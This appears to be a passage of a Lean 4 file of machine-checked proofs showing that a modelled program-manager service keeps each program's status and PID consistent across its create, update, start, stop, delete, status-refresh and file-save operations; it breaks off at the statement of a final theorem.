theorem Consistent_mapSet {pm : ProgramManager} {k : String} {v : Program}
    (hpm : Consistent pm) (hv : StatusPidOK v) :
    Consistent { pm with Programs := mapSet pm.Programs k v } := by
  intro e he
  rcases mem_mapSet he with h | h
  · rw [h]; exact hv
  · exact hpm e h

theorem Consistent_get {pm : ProgramManager} {id : String} {p : Program}
    (hpm : Consistent pm) (h : pm.GetProgramByID id = some p) : StatusPidOK p :=
  hpm _ (mapGet_mem h)

theorem Consistent_AddProgram {pm : ProgramManager} {p : Program} (t1 t2 : Time)
    (hpm : Consistent pm) (hp : StatusPidOK p) : Consistent (pm.AddProgram p t1 t2) :=
  Consistent_mapSet hpm hp

theorem Consistent_UpdateProgram {pm : ProgramManager} {p : Program} (id : String) (t : Time)
    (hpm : Consistent pm) (hp : StatusPidOK p) : Consistent (pm.UpdateProgram id p t).1 := by
  unfold ProgramManager.UpdateProgram
  split
  · exact hpm
  · exact Consistent_mapSet hpm hp

theorem Consistent_RemoveProgram {pm : ProgramManager} (id : String)
    (hpm : Consistent pm) : Consistent (pm.RemoveProgram id).1 := by
  unfold ProgramManager.RemoveProgram
  split
  · exact hpm
  · exact fun e he => hpm e (mem_mapDelete he)

theorem Consistent_new : Consistent NewProgramManager := by
  intro e he
  simp [NewProgramManager] at he

theorem Consistent_save {env : Env} {pm : ProgramManager} {w : World}
    (hpm : Consistent pm) (hw : Consistent w.catalog) :
    Consistent (FileStorage.SavePrograms env pm w).2.catalog := by
  rcases Save_catalog env pm w with h | h
  · rw [h.2]; exact hpm
  · rw [h.2]; exact hw

theorem IsProcessRunning_pos {env : Env} {pid : Int} {k k1 : Nat}
    (h : ProcessManager.IsProcessRunning env pid k = (true, k1)) : 0 < pid := by
  unfold ProcessManager.IsProcessRunning at h
  split at h
  · simp at h
  · omega

theorem pid_pos (pid : PNat) : (0 : Int) < ((pid : Nat) : Int) :=
  Int.natCast_pos.2 pid.pos

theorem PM_StartProgram_ok (env : Env) (p : Program) (k : Nat) :
    (ProcessManager.StartProgram env p k).1.1 = none →
      StatusPidOK (ProcessManager.StartProgram env p k).1.2 := by
  simp only [ProcessManager.StartProgram]
  repeat' split
  all_goals first
    | (intro h; simp at h; done)
    | (intro _; exact StatusPidOK_running _ _ (pid_pos _))

theorem PM_StopProgram_ok (env : Env) (p : Program) (k : Nat) :
    (ProcessManager.StopProgram env p k).1.1 = none →
      StatusPidOK (ProcessManager.StopProgram env p k).1.2 := by
  unfold ProcessManager.StopProgram
  repeat' split
  all_goals first
    | (intro h; simp at h; done)
    | (intro _; exact StatusPidOK_stopped _)

theorem Save_keeps {env : Env} {pm : ProgramManager} {w w1 : World} {r : Option String}
    (h : FileStorage.SavePrograms env pm w = (r, w1))
    (hpm : Consistent pm) (hw : Consistent w.catalog) : Consistent w1.catalog := by
  rcases Save_eq h with h1 | h1
  · rw [h1.2]; exact hpm
  · rw [h1.2]; exact hw

theorem Update_keeps {pm pm1 : ProgramManager} {id : String} {p : Program} {t : Time} {b : Bool}
    (h : pm.UpdateProgram id p t = (pm1, b))
    (hpm : Consistent pm) (hp : StatusPidOK p) : Consistent pm1 := by
  have h1 := Consistent_UpdateProgram id t hpm hp
  rw [h] at h1
  exact h1

theorem Remove_keeps {pm pm1 : ProgramManager} {id : String} {b : Bool}
    (h : pm.RemoveProgram id = (pm1, b)) (hpm : Consistent pm) : Consistent pm1 := by
  have h1 := Consistent_RemoveProgram id hpm
  rw [h] at h1
  exact h1

theorem GetProgramByID_world (env : Env) (id : String) (w : World) :
    (ProgramService.GetProgramByID env id w).2 = w.next := by
  simp only [ProgramService.GetProgramByID]
  split
  · next h => exact Load_eq_error h
  · next h =>
    obtain ⟨_, rfl⟩ := Load_eq_ok h
    split <;> rfl

theorem GetProgramByID_ok {env : Env} {id : String} {w w1 : World} {p : Program}
    (h : ProgramService.GetProgramByID env id w = (.ok p, w1)) :
    w.catalog.GetProgramByID id = some p ∧ w1 = w.next := by
  have hw := GetProgramByID_world env id w
  rw [h] at hw
  refine ⟨?_, hw⟩
  simp only [ProgramService.GetProgramByID] at h
  split at h
  · simp at h
  · next hl =>
    obtain ⟨rfl, _⟩ := Load_eq_ok hl
    split at h
    · simp at h
    · next hg =>
      simp only [Prod.mk.injEq, Except.ok.injEq] at h
      rw [hg, h.1]

theorem Service_AddProgram_keeps (env : Env) (p : Program) (w : World)
    (hp : StatusPidOK p) (hw : Consistent w.catalog) :
    Consistent (ProgramService.AddProgram env p w).2.catalog := by
  simp only [ProgramService.AddProgram]
  split
  · exact hw
  · split
    · exact hw
    · split
      · exact hw
      · split
        · exact hw
        · split
          · next h => rw [Load_eq_error h]; exact hw
          · next pm w3 h =>
            obtain ⟨rfl, rfl⟩ := Load_eq_ok h
            split
            · exact hw
            · have hpm : Consistent (w.next.next.catalog.AddProgram
                  { (if p.CreatedAt = 0 then
                      { p with CreatedAt := env.now w.next.next.next.tick } else p) with
                    UpdatedAt := env.now w.next.next.next.tick }
                  (env.now (w.next.next.next.tick + 1))
                  (env.now (w.next.next.next.tick + 2))) := by
                apply Consistent_AddProgram _ _ hw
                split <;> exact hp
              split
              · next hs => exact Save_keeps hs hpm hw
              · next hs => exact Save_keeps hs hpm hw

theorem Service_UpdateProgram_keeps (env : Env) (id : String) (p : Program) (w : World)
    (hp : StatusPidOK p) (hw : Consistent w.catalog) :
    Consistent (ProgramService.UpdateProgram env id p w).2.catalog := by
  simp only [ProgramService.UpdateProgram]
  split
  · exact hw
  · split
    · exact hw
    · split
      · exact hw
      · split
        · exact hw
        · split
          · next h => rw [Load_eq_error h]; exact hw
          · next pm w3 h =>
            obtain ⟨rfl, rfl⟩ := Load_eq_ok h
            split
            · exact hw
            · split
              · exact hw
              · next pm1 hu =>
                have hpm1 : Consistent pm1 := Update_keeps hu hw hp
                split
                · next hs => exact Save_keeps hs hpm1 hw
                · next hs => exact Save_keeps hs hpm1 hw

theorem Service_StartProgram_keeps (env : Env) (p : Program) (w : World)
    (hw : Consistent w.catalog) :
    Consistent (ProgramService.StartProgram env p w).2.catalog := by
  simp only [ProgramService.StartProgram]
  split
  · exact hw
  · split
    · exact hw
    · split
      · next h => rw [Load_eq_error h]; exact hw
      · next pm w1 h =>
        obtain ⟨rfl, rfl⟩ := Load_eq_ok h
        split
        · exact hw
        · next stored hs =>
          split
          · exact hw
          · next sp k2 hstart =>
            have hsp : StatusPidOK sp := by
              have h1 := PM_StartProgram_ok env stored w.next.tick
              rw [hstart] at h1
              exact h1 rfl
            split
            · exact hw
            · next pm1 hu =>
              have hpm1 : Consistent pm1 := Update_keeps hu hw hsp
              split
              · next hs => exact Save_keeps hs hpm1 hw
              · next hs => exact Save_keeps hs hpm1 hw

theorem Service_StopProgram_keeps (env : Env) (p : Program) (w : World)
    (hw : Consistent w.catalog) :
    Consistent (ProgramService.StopProgram env p w).2.catalog := by
  simp only [ProgramService.StopProgram]
  split
  · next h => rw [Load_eq_error h]; exact hw
  · next pm w1 h =>
    obtain ⟨rfl, rfl⟩ := Load_eq_ok h
    split
    · exact hw
    · next stored hs =>
      split
      · exact hw
      · next sp k2 hstop =>
        have hsp : StatusPidOK sp := by
          have h1 := PM_StopProgram_ok env stored w.next.tick
          rw [hstop] at h1
          exact h1 rfl
        split
        · exact hw
        · next pm1 hu =>
          have hpm1 : Consistent pm1 := Update_keeps hu hw hsp
          split
          · next hs => exact Save_keeps hs hpm1 hw
          · next hs => exact Save_keeps hs hpm1 hw

theorem Service_DeleteProgram_keeps (env : Env) (id : String) (w : World)
    (hw : Consistent w.catalog) :
    Consistent (ProgramService.DeleteProgram env id w).2.catalog := by
  simp only [ProgramService.DeleteProgram]
  split
  · next h => rw [Load_eq_error h]; exact hw
  · next pm w1 h =>
    obtain ⟨rfl, rfl⟩ := Load_eq_ok h
    split
    · exact hw
    · next program hg =>
      have hw2 : Consistent (if program.Status = "running"
          then ProgramService.StopProgram env program w.next
          else ((none, program), w.next)).2.catalog := by
        split
        · exact Service_StopProgram_keeps env program w.next hw
        · exact hw
      split
      · next hstop => rw [hstop] at hw2; exact hw2
      · next hstop =>
        rw [hstop] at hw2
        split
        · exact hw2
        · next pm1 hr =>
          have hpm1 : Consistent pm1 := Remove_keeps hr hw
          split
          · next hs => exact Save_keeps hs hpm1 hw2
          · next hs => exact Save_keeps hs hpm1 hw2

theorem GetProgramStatus_cases (env : Env) (p : Program) (k : Nat) :
    (ProcessManager.GetProgramStatus env p k).1 = ("stopped", 0, none) ∨
      ((ProcessManager.GetProgramStatus env p k).1 = ("running", p.PID, none) ∧ 0 < p.PID) := by
  simp only [ProcessManager.GetProgramStatus]
  split
  · exact Or.inl rfl
  · next hpid =>
    split
    · exact Or.inl rfl
    · split
      · exact Or.inl rfl
      · exact Or.inr ⟨rfl, by omega⟩

theorem actual_cases (env : Env) (p : Program) (k : Nat) :
    (StatusService.actual env p k).1 = ("stopped", 0) ∨
      ((StatusService.actual env p k).1 = ("running", p.PID) ∧ 0 < p.PID) := by
  simp only [StatusService.actual]
  rcases GetProgramStatus_cases env p k with h | ⟨h, hpos⟩
  · split
    · next heq => rw [heq] at h; simp at h
    · next heq =>
      rw [heq] at h
      simp only [Prod.mk.injEq, and_true] at h
      left
      simp [h.1, h.2]
  · split
    · next heq => rw [heq] at h; simp at h
    · next heq =>
      rw [heq] at h
      simp only [Prod.mk.injEq, and_true] at h
      right
      exact ⟨by simp [h.1, h.2], hpos⟩

theorem actual_ok (env : Env) (p : Program) (k : Nat) (t : Time) :
    StatusPidOK { p with Status := (StatusService.actual env p k).1.1,
                         PID := (StatusService.actual env p k).1.2, UpdatedAt := t } := by
  rcases actual_cases env p k with h1 | ⟨h1, hpos⟩
  · rw [h1]
    exact StatusPidOK_stopped { p with UpdatedAt := t }
  · rw [h1]
    exact StatusPidOK_running { p with UpdatedAt := t } _ hpos

theorem reconcile_keeps (env : Env) (key : String) (p : Program) (pm : ProgramManager)
    (w : World) (hpm : Consistent pm) (hw : Consistent w.catalog) :
    Consistent (StatusService.reconcile env key p pm w).2.1 ∧
      Consistent (StatusService.reconcile env key p pm w).2.2.catalog := by
  simp only [StatusService.reconcile]
  split
  · have hpm1 := Consistent_UpdateProgram key
      (env.now ((StatusService.actual env p w.tick).2 + 1)) hpm
      (actual_ok env p w.tick (env.now (StatusService.actual env p w.tick).2))
    exact ⟨hpm1, Consistent_save hpm1 hw⟩
  · exact ⟨hpm, hw⟩

theorem allStatusLoop_keeps (env : Env) (ps : List Program) :
    ∀ (pm : ProgramManager) (w : World), Consistent pm → Consistent w.catalog →
      Consistent (StatusService.allStatusLoop env ps pm w).2.1 ∧
        Consistent (StatusService.allStatusLoop env ps pm w).2.2.catalog := by
  induction ps with
  | nil => intro pm w hpm hw; exact ⟨hpm, hw⟩
  | cons p rest ih =>
    intro pm w hpm hw
    simp only [StatusService.allStatusLoop]
    have h1 := reconcile_keeps env p.ID p pm w hpm hw
    exact ih _ _ h1.1 h1.2

theorem refreshLoop_keeps (env : Env) (keys : List String) :
    ∀ (pm : ProgramManager) (u : Bool) (w : World), Consistent pm → Consistent w.catalog →
      Consistent (StatusService.refreshLoop env keys pm u w).1 ∧
        Consistent (StatusService.refreshLoop env keys pm u w).2.2.catalog := by
  induction keys with
  | nil => intro pm u w hpm hw; exact ⟨hpm, hw⟩
  | cons key rest ih =>
    intro pm u w hpm hw
    simp only [StatusService.refreshLoop]
    split
    · exact ih pm u w hpm hw
    · next p hg =>
      have hp : StatusPidOK
          (if (decide ((StatusService.actual env p w.tick).1.1 ≠ p.Status ∨
                (StatusService.actual env p w.tick).1.2 ≠ p.PID)) = true
           then { p with Status := (StatusService.actual env p w.tick).1.1,
                         PID := (StatusService.actual env p w.tick).1.2,
                         UpdatedAt := env.now (StatusService.actual env p w.tick).2 }
           else p) := by
        split
        · exact actual_ok env p w.tick _
        · exact hpm _ (mapGet_mem hg)
      refine ih _ _ _ ?_ ?_
      · exact Consistent_UpdateProgram _ _ hpm hp
      · exact Consistent_save (Consistent_UpdateProgram _ _ hpm hp) hw

theorem GetProcessStatus_cases (env : Env) (pid : Int) (k : Nat) :
    (ProcessManager.GetProcessStatus env pid k).1 = "stopped" ∨
      ((ProcessManager.GetProcessStatus env pid k).1 = "running" ∧ 0 < pid) := by
  simp only [ProcessManager.GetProcessStatus]
  split
  · next h => exact Or.inr ⟨rfl, IsProcessRunning_pos h⟩
  · exact Or.inl rfl

theorem basicRefresh_keeps (env : Env) (p : Program) (pm : ProgramManager)
    (w : World) (hpm : Consistent pm) (hw : Consistent w.catalog) :
    Consistent (StatusService.basicRefresh env p pm w).2.1 ∧
      Consistent (StatusService.basicRefresh env p pm w).2.2.catalog := by
  simp only [StatusService.basicRefresh]
  split
  · have hp : StatusPidOK
        (if (ProcessManager.GetProcessStatus env p.PID w.tick).1 = "stopped"
         then { { p with Status := (ProcessManager.GetProcessStatus env p.PID w.tick).1 } with
                PID := 0 }
         else { p with Status := (ProcessManager.GetProcessStatus env p.PID w.tick).1 }) := by
      rcases GetProcessStatus_cases env p.PID w.tick with h | ⟨h, hpos⟩
      · rw [h]
        exact StatusPidOK_stopped p
      · rw [h]
        exact StatusPidOK_running p p.PID hpos
    refine ⟨?_, ?_⟩
    · exact Consistent_UpdateProgram _ _ hpm hp
    · exact Consistent_save (Consistent_UpdateProgram _ _ hpm hp) hw
  · exact ⟨hpm, hw⟩

theorem basicLoop_keeps (env : Env) (keep : String) (ps : List Program) :
    ∀ (pm : ProgramManager) (w : World), Consistent pm → Consistent w.catalog →
      Consistent (StatusService.basicLoop env keep ps pm w).2.1 ∧
        Consistent (StatusService.basicLoop env keep ps pm w).2.2.catalog := by
  induction ps with
  | nil => intro pm w hpm hw; exact ⟨hpm, hw⟩
  | cons p rest ih =>
    intro pm w hpm hw
    simp only [StatusService.basicLoop]
    have h1 := basicRefresh_keeps env p pm w hpm hw
    exact ih _ _ h1.1 h1.2

theorem memoryLoop_keeps (env : Env) (ps : List Program) :
    ∀ (pm : ProgramManager) (w : World), Consistent pm → Consistent w.catalog →
      Consistent (StatusService.memoryLoop env ps pm w).2.1 ∧
        Consistent (StatusService.memoryLoop env ps pm w).2.2.catalog := by
  induction ps with
  | nil => intro pm w hpm hw; exact ⟨hpm, hw⟩
  | cons p rest ih =>
    intro pm w hpm hw
    simp only [StatusService.memoryLoop]
    have h1 := basicRefresh_keeps env p pm w hpm hw
    exact ih _ _ h1.1 h1.2

theorem Status_GetProgramStatus_keeps (env : Env) (id : String) (w : World)
    (hw : Consistent w.catalog) :
    Consistent (StatusService.GetProgramStatus env id w).2.catalog := by
  simp only [StatusService.GetProgramStatus]
  split
  · next h => rw [Load_eq_error h]; exact hw
  · next pm w1 h =>
    obtain ⟨rfl, rfl⟩ := Load_eq_ok h
    split
    · exact hw
    · next p hg => exact (reconcile_keeps env id p _ w.next hw hw).2

theorem Status_GetAllProgramsStatus_keeps (env : Env) (w : World)
    (hw : Consistent w.catalog) :
    Consistent (StatusService.GetAllProgramsStatus env w).2.catalog := by
  simp only [StatusService.GetAllProgramsStatus]
  split
  · next h => rw [Load_eq_error h]; exact hw
  · next pm w1 h =>
    obtain ⟨rfl, rfl⟩ := Load_eq_ok h
    exact (allStatusLoop_keeps env _ _ w.next.next hw hw).2

theorem Status_RefreshAllStatuses_keeps (env : Env) (w : World)
    (hw : Consistent w.catalog) :
    Consistent (StatusService.RefreshAllStatuses env w).2.catalog := by
  simp only [StatusService.RefreshAllStatuses]
  split
  · next h => rw [Load_eq_error h]; exact hw
  · next pm w1 h =>
    obtain ⟨rfl, rfl⟩ := Load_eq_ok h
    have hl := refreshLoop_keeps env
      (rangeKeys (env.order w.next.tick) w.catalog.Programs) w.catalog false w.next.next hw hw
    split
    · next pm1 w2 hr =>
      rw [hr] at hl
      split
      · next hs => exact Save_keeps hs hl.1 hl.2
      · next hs => exact Save_keeps hs hl.1 hl.2
    · next hr => rw [hr] at hl; exact hl.2

theorem Status_GetRunningPrograms_keeps (env : Env) (w : World)
    (hw : Consistent w.catalog) :
    Consistent (StatusService.GetRunningPrograms env w).2.catalog := by
  simp only [StatusService.GetRunningPrograms]
  split
  · next h => rw [Load_eq_error h]; exact hw
  · next pm w1 h =>
    obtain ⟨rfl, rfl⟩ := Load_eq_ok h
    exact (basicLoop_keeps env _ _ _ w.next.next hw hw).2

theorem Status_GetStoppedPrograms_keeps (env : Env) (w : World)
    (hw : Consistent w.catalog) :
    Consistent (StatusService.GetStoppedPrograms env w).2.catalog := by
  simp only [StatusService.GetStoppedPrograms]
  split
  · next h => rw [Load_eq_error h]; exact hw
  · next pm w1 h =>
    obtain ⟨rfl, rfl⟩ := Load_eq_ok h
    exact (basicLoop_keeps env _ _ _ w.next.next hw hw).2

theorem Status_GetProgramsWithMemory_keeps (env : Env) (w : World)
    (hw : Consistent w.catalog) :
    Consistent (StatusService.GetProgramsWithMemory env w).2.catalog := by
  simp only [StatusService.GetProgramsWithMemory]
  split
  · next h => rw [Load_eq_error h]; exact hw
  · next pm w1 h =>
    obtain ⟨rfl, rfl⟩ := Load_eq_ok h
    exact (memoryLoop_keeps env _ _ w.next.next hw hw).2

theorem Service_GetAllPrograms_world (env : Env) (w : World) :
    (ProgramService.GetAllPrograms env w).2.catalog = w.catalog := by
  simp only [ProgramService.GetAllPrograms]
  split
  · next h => rw [Load_eq_error h]; rfl
  · next h => obtain ⟨_, rfl⟩ := Load_eq_ok h; rfl

theorem pickID_world (env : Env) (w : World) :
    (ProgramHandler.pickID env w).2.catalog = w.catalog := by
  simp only [ProgramHandler.pickID]
  split
  · next h =>
    obtain ⟨_, rfl⟩ := GetProgramByID_ok h
    split
    · next h2 => obtain ⟨_, rfl⟩ := GetProgramByID_ok h2; rfl
    · next h2 =>
      have := GetProgramByID_world env (env.newID w.next.next.tick) w.next.next.next
      rw [h2] at this
      simp only at this
      rw [this]; rfl
  · next h =>
    have := GetProgramByID_world env (env.newID w.tick) w.next
    rw [h] at this
    simp only at this
    rw [this]; rfl

theorem snd_eq {α : Type} {x : α × World} {a : α} {w1 : World}
    (h : x = (a, w1)) (hx : Consistent x.2.catalog) : Consistent w1.catalog := by
  subst h
  exact hx

theorem Handler_CreateProgram_keeps (env : Env) (req : Option CreateRequest) (w : World)
    (hw : Consistent w.catalog) :
    Consistent (ProgramHandler.CreateProgram env req w).2.catalog := by
  simp only [ProgramHandler.CreateProgram]
  split
  · exact hw
  · next req =>
    have hw1 : Consistent (ProgramHandler.pickID env w).2.catalog := by
      rw [pickID_world]; exact hw
    split
    · exact hw
    · split
      · exact hw
      · split
        · exact hw
        · split
          · exact hw
          · split
            · next h => exact snd_eq h hw1
            · next id w1 h =>
              have hw2 := snd_eq h hw1
              split
              · next ha =>
                have := snd_eq ha (Service_AddProgram_keeps env _ _
                  (by split <;> simp [StatusPidOK]) hw2)
                split <;> exact this
              · next ha =>
                exact snd_eq ha (Service_AddProgram_keeps env _ _
                  (by split <;> simp [StatusPidOK]) hw2)

theorem Handler_UpdateProgram_keeps (env : Env) (id : String) (req : Option UpdateRequest)
    (w : World) (hw : Consistent w.catalog) :
    Consistent (ProgramHandler.UpdateProgram env id req w).2.catalog := by
  simp only [ProgramHandler.UpdateProgram]
  split
  · exact hw
  · split
    · exact hw
    · next req =>
      split
      · next h =>
        have := GetProgramByID_world env id w
        rw [h] at this
        simp only at this
        rw [this]; exact hw
      · next existing w1 h =>
        obtain ⟨hg, rfl⟩ := GetProgramByID_ok h
        have hex : StatusPidOK existing := Consistent_get hw hg
        split
        · exact hw
        · split
          · exact hw
          · have hp : StatusPidOK
                (match req.Port with
                  | some port =>
                    { { existing with
                        Name := TrimSpace req.Name, Command := TrimSpace req.Command,
                        WorkingDir := TrimSpace req.WorkingDir,
                        Description := TrimSpace req.Description } with Port := port }
                  | none =>
                    { existing with
                      Name := TrimSpace req.Name, Command := TrimSpace req.Command,
                      WorkingDir := TrimSpace req.WorkingDir,
                      Description := TrimSpace req.Description }) := by
              split <;> exact hex
            split
            · next hu =>
              have := snd_eq hu (Service_UpdateProgram_keeps env id _ w.next hp hw)
              split
              · exact this
              · split <;> exact this
            · next hu =>
              exact snd_eq hu (Service_UpdateProgram_keeps env id _ w.next hp hw)

theorem Handler_DeleteProgram_keeps (env : Env) (id : String) (w : World)
    (hw : Consistent w.catalog) :
    Consistent (ProgramHandler.DeleteProgram env id w).2.catalog := by
  simp only [ProgramHandler.DeleteProgram]
  have h1 := Service_DeleteProgram_keeps env id w hw
  split
  · next h => have := snd_eq h h1; split <;> exact this
  · next h => exact snd_eq h h1

theorem GetProgramByID_keeps (env : Env) (id : String) (w : World)
    (hw : Consistent w.catalog) :
    Consistent (ProgramService.GetProgramByID env id w).2.catalog := by
  rw [GetProgramByID_world]; exact hw

theorem Handler_StartProgram_keeps (env : Env) (id : String) (w : World)
    (hw : Consistent w.catalog) :
    Consistent (ProgramHandler.StartProgram env id w).2.catalog := by
  simp only [ProgramHandler.StartProgram]
  have h1 := GetProgramByID_keeps env id w hw
  split
  · next h => have := snd_eq h h1; split <;> exact this
  · next p w1 h =>
    have hw1 := snd_eq h h1
    have h2 := Service_StartProgram_keeps env p w1 hw1
    split
    · next hs => have := snd_eq hs h2; split <;> exact this
    · next hs =>
      have hw2 := snd_eq hs h2
      have h3 := GetProgramByID_keeps env id _ hw2
      split
      · next hg => exact snd_eq hg h3
      · next hg => exact snd_eq hg h3

theorem Handler_StopProgram_keeps (env : Env) (id : String) (w : World)
    (hw : Consistent w.catalog) :
    Consistent (ProgramHandler.StopProgram env id w).2.catalog := by
  simp only [ProgramHandler.StopProgram]
  have h1 := GetProgramByID_keeps env id w hw
  split
  · next h => have := snd_eq h h1; split <;> exact this
  · next p w1 h =>
    have hw1 := snd_eq h h1
    have h2 := Service_StopProgram_keeps env p w1 hw1
    split
    · next hs => have := snd_eq hs h2; split <;> exact this
    · next hs =>
      have hw2 := snd_eq hs h2
      have h3 := GetProgramByID_keeps env id _ hw2
      split
      · next hg => exact snd_eq hg h3
      · next hg => exact snd_eq hg h3

theorem handle_keeps (env : Env) (r : Request) (w : World) (hw : Consistent w.catalog) :
    Consistent (handle env r w).2.catalog := by
  cases r with
  | list =>
    simp only [handle, ProgramHandler.GetAllPrograms]
    have h1 : Consistent (ProgramService.GetAllPrograms env w).2.catalog := by
      rw [Service_GetAllPrograms_world]; exact hw
    split
    · next h => exact snd_eq h h1
    · next h => exact snd_eq h h1
  | get id =>
    simp only [handle, ProgramHandler.GetProgram]
    have h1 := GetProgramByID_keeps env id w hw
    split
    · next h => have := snd_eq h h1; split <;> exact this
    · next h => exact snd_eq h h1
  | create req => exact Handler_CreateProgram_keeps env req w hw
  | update id req => exact Handler_UpdateProgram_keeps env id req w hw
  | delete id => exact Handler_DeleteProgram_keeps env id w hw
  | start id => exact Handler_StartProgram_keeps env id w hw
  | stop id => exact Handler_StopProgram_keeps env id w hw
  | status id =>
    simp only [handle, StatusHandler.GetProgramStatus]
    have h1 := Status_GetProgramStatus_keeps env id w hw
    split
    · next h => have := snd_eq h h1; split <;> exact this
    · next h => exact snd_eq h h1
  | statusAll =>
    simp only [handle, StatusHandler.GetAllProgramsStatus]
    have h1 := Status_GetAllProgramsStatus_keeps env w hw
    split
    · next h => exact snd_eq h h1
    · next h => exact snd_eq h h1
  | refresh =>
    simp only [handle, StatusHandler.RefreshAllStatuses]
    have h1 := Status_RefreshAllStatuses_keeps env w hw
    split
    · next h => exact snd_eq h h1
    · next w1 h =>
      have hw1 := snd_eq h h1
      have h2 := Status_GetAllProgramsStatus_keeps env w1 hw1
      split
      · next h => exact snd_eq h h2
      · next h => exact snd_eq h h2
  | running =>
    simp only [handle, StatusHandler.GetRunningPrograms]
    have h1 := Status_GetRunningPrograms_keeps env w hw
    split
    · next h => exact snd_eq h h1
    · next h => exact snd_eq h h1
  | stopped =>
    simp only [handle, StatusHandler.GetStoppedPrograms]
    have h1 := Status_GetStoppedPrograms_keeps env w hw
    split
    · next h => exact snd_eq h h1
    · next h => exact snd_eq h h1
  | memory =>
    simp only [handle, StatusHandler.GetProgramsWithMemory]
    have h1 := Status_GetProgramsWithMemory_keeps env w hw
    split
    · next h => exact snd_eq h h1
    · next h => exact snd_eq h h1

theorem serve_keeps (env : Env) (rs : List Request) :
    ∀ w : World, Consistent w.catalog → Consistent (serve env rs w).catalog := by
  induction rs with
  | nil => intro w hw; exact hw
  | cons r rest ih => intro w hw; exact ih _ (handle_keeps env r w hw)

/-! ## Facts used by the per-claim theorems -/

theorem Load_of_ok {env : Env} {w : World} (h : env.readErr w.tick = none) :
    FileStorage.LoadPrograms env w = (.ok w.catalog, w.next) := by
  unfold FileStorage.LoadPrograms World.catalog
  split
  · rfl
  · rw [h]

theorem Save_of_ok {env : Env} {w : World} (pm : ProgramManager)
    (h1 : env.dirErr w.tick = none) (h2 : env.writeErr w.tick = none)
    (h3 : env.renameErr w.tick = none) :
    FileStorage.SavePrograms env pm w = (none, { file := some pm, tick := w.tick + 1 }) := by
  unfold FileStorage.SavePrograms
  rw [h1, h2, h3]

theorem Save_error_catalog {env : Env} {pm : ProgramManager} {w w1 : World} {e : String}
    (h : FileStorage.SavePrograms env pm w = (some e, w1)) : w1.catalog = w.catalog := by
  rcases Save_eq h with h1 | h1
  · simp at h1
  · exact h1.2

theorem Save_none_catalog {env : Env} {pm : ProgramManager} {w w1 : World}
    (h : FileStorage.SavePrograms env pm w = (none, w1)) : w1.catalog = pm := by
  rcases Save_eq h with h1 | h1
  · exact h1.2
  · simp at h1

theorem Save_fault_catalog (env : Env) (pm : ProgramManager) (w : World)
    (h : ¬(env.dirErr w.tick = none ∧ env.writeErr w.tick = none ∧
      env.renameErr w.tick = none)) :
    (FileStorage.SavePrograms env pm w).2.catalog = w.catalog := by
  unfold FileStorage.SavePrograms
  split
  · rfl
  · next h1 =>
    split
    · rfl
    · next h2 =>
      split
      · rfl
      · next h3 => exact absurd ⟨h1, h2, h3⟩ h

theorem mapGet_mapSet_self (m : List (String × Program)) (k : String) (v : Program) :
    mapGet (mapSet m k v) k = some v := by
  induction m with
  | nil => simp [mapSet, mapGet]
  | cons e rest ih =>
    obtain ⟨k1, v1⟩ := e
    unfold mapSet
    split
    · simp [mapGet]
    · next hne => simp [mapGet, hne, ih]

theorem mapGet_mapSet_other (m : List (String × Program)) {k k2 : String} (v : Program)
    (hne : k2 ≠ k) : mapGet (mapSet m k v) k2 = mapGet m k2 := by
  induction m with
  | nil => simp [mapSet, mapGet, Ne.symm hne]
  | cons e rest ih =>
    obtain ⟨k1, v1⟩ := e
    unfold mapSet
    split
    · next h => subst h; simp [mapGet, Ne.symm hne]
    · next h =>
      by_cases h2 : k1 = k2
      · simp [mapGet, h2]
      · simp [mapGet, h2, ih]

theorem AddProgram_error_catalog (env : Env) (p : Program) (w : World) :
    (ProgramService.AddProgram env p w).1 ≠ none →
      (ProgramService.AddProgram env p w).2.catalog = w.catalog := by
  simp only [ProgramService.AddProgram]
  split
  · intro _; rfl
  · split
    · intro _; rfl
    · split
      · intro _; rfl
      · split
        · intro _; rfl
        · split
          · next h => intro _; rw [Load_eq_error h]; rfl
          · next pm w3 h =>
            obtain ⟨rfl, rfl⟩ := Load_eq_ok h
            split
            · intro _; rfl
            · split
              · next hs => intro _; rw [Save_error_catalog hs]; rfl
              · intro h; exact absurd rfl h

theorem mapSet_keys {m : List (String × Program)} {k : String} {old : Program}
    (h : mapGet m k = some old) (v : Program) :
    (mapSet m k v).map Prod.fst = m.map Prod.fst := by
  induction m with
  | nil => simp [mapGet] at h
  | cons e rest ih =>
    obtain ⟨k1, v1⟩ := e
    unfold mapSet
    split
    · next hk => simp [hk]
    · next hk =>
      have h1 : mapGet rest k = some old := by
        simpa [mapGet, hk] using h
      simp [ih h1]

theorem Model_UpdateProgram_true {pm pm1 : ProgramManager} {id : String} {p : Program}
    {t : Time} (h : pm.UpdateProgram id p t = (pm1, true)) :
    mapGet pm.Programs id ≠ none ∧
      pm1 = { pm with Programs := mapSet pm.Programs id { p with UpdatedAt := t } } := by
  unfold ProgramManager.UpdateProgram at h
  split at h
  · simp at h
  · next hg =>
    simp only [Prod.mk.injEq, and_true] at h
    exact ⟨by simp [hg], h.symm⟩

theorem Service_UpdateProgram_success (env : Env) (id : String) (p : Program) (w : World) :
    (ProgramService.UpdateProgram env id p w).1 = none →
      mapGet w.catalog.Programs id ≠ none ∧
      ∃ t : Time,
        (ProgramService.UpdateProgram env id p w).2.catalog =
          { w.catalog with Programs := mapSet w.catalog.Programs id { p with UpdatedAt := t } } := by
  simp only [ProgramService.UpdateProgram]
  split
  · intro h; simp at h
  · split
    · intro h; simp at h
    · split
      · intro h; simp at h
      · split
        · intro h; simp at h
        · split
          · intro h; simp at h
          · next pm w3 hl =>
            obtain ⟨rfl, rfl⟩ := Load_eq_ok hl
            split
            · intro h; simp at h
            · split
              · intro h; simp at h
              · next pm1 hu =>
                obtain ⟨hk, rfl⟩ := Model_UpdateProgram_true hu
                split
                · intro h; simp at h
                · next hs =>
                  intro _
                  exact ⟨hk, _, Save_none_catalog hs⟩

theorem Service_UpdateProgram_success_eq {env : Env} {id : String} {p : Program}
    {w w1 : World} (h : ProgramService.UpdateProgram env id p w = (none, w1)) :
    mapGet w.catalog.Programs id ≠ none ∧
      ∃ t : Time,
        w1.catalog =
          { w.catalog with Programs := mapSet w.catalog.Programs id { p with UpdatedAt := t } } := by
  have h1 := Service_UpdateProgram_success env id p w
  rw [h] at h1
  exact h1 rfl

theorem PM_StartProgram_running (env : Env) (p : Program) (k : Nat) :
    (ProcessManager.StartProgram env p k).1.1 = none →
      (ProcessManager.StartProgram env p k).1.2.Status = "running" ∧
        0 < (ProcessManager.StartProgram env p k).1.2.PID := by
